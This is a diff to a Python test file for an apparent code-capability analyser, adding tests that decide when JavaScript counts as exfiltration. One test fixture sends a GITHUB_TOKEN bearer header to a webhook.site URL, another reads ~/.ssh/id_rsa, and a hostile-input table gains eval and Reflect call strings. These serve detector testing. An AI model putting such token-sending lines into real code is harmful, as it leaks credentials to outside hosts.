@@ -11,6 +11,7 @@ from fimci.capabilities.judge import judge
 from fimci.capabilities.uses import Program, Use
 from fimci.model import Capability, Record, Reference, Unread
 from fimci.readers.code import javascript, javascript_script
+from fimci.readers.code.javascript_syntax import parsing
 from fimci.readers.code.javascript_syntax.program import program
 
 SPELLINGS: tuple[tuple[str, str], ...] = (
@@ -221,6 +222,14 @@ def test_a_member_of_its_own_is_not_what_is_assigned_to_it() -> None:
     assert names('const http = require("http"); agent.request = http.request') == {"network"}
 
 
+def test_the_key_of_a_server_and_the_token_of_a_request_are_not_sent_away() -> None:
+    key = 'const key = require("fs").readFileSync(home + "/.ssh/id_rsa");'
+    assert "exfiltration" not in names(key + ' require("https").createServer({key}, () => {})')
+    token = "{headers: {Authorization: `Bearer ${process.env.GITHUB_TOKEN}`}}"
+    assert "exfiltration" not in names(f'fetch("https://api.example/x", {token})')
+    assert "exfiltration" in names(f'fetch("https://a.webhook.site/x", {token})')
+
+
 def test_typescript_is_read_with_its_types() -> None:
     code = """
 import { exec, type ExecOptions } from "child_process";
@@ -359,10 +368,11 @@ def test_which_files_are_read() -> None:
     assert [record.at.line for record in found if isinstance(record, Capability)] == [2]
 
 
-def test_of_a_long_file_both_ends_are_read() -> None:
-    middle = b"x();\n" * 600_000
+def test_of_a_long_file_both_ends_are_read(monkeypatch: pytest.MonkeyPatch) -> None:
+    middle = b"x();\n" * 60_000
+    monkeypatch.setattr(parsing, "LARGEST", 200_000)
     found = program(b"eval(a);\n" + middle + b"eval(b);\n", "x.js")
-    assert [use.line for use in found.uses] == [1, 600_002]
+    assert [use.line for use in found.uses] == [1, 60_002]
     assert "only its beginning and its end" in found.capped
 
 
@@ -391,6 +401,7 @@ HOSTILE: dict[str, bytes] = {
     "templates": b"eval(" + b"`${" * 20_000 + b"x" + b"}`" * 20_000 + b")",
     "blanks": (b"from" + b" " * 5000) * 500,
     "loaders": b"require(" * 100_000,
+    "half a call": b"Reflect.apply(eval, x); Reflect.construct(Function, eval); eval.apply(); eval.call()",
     "NUL": b"eval(x)\0" * 10_000,
 }
 
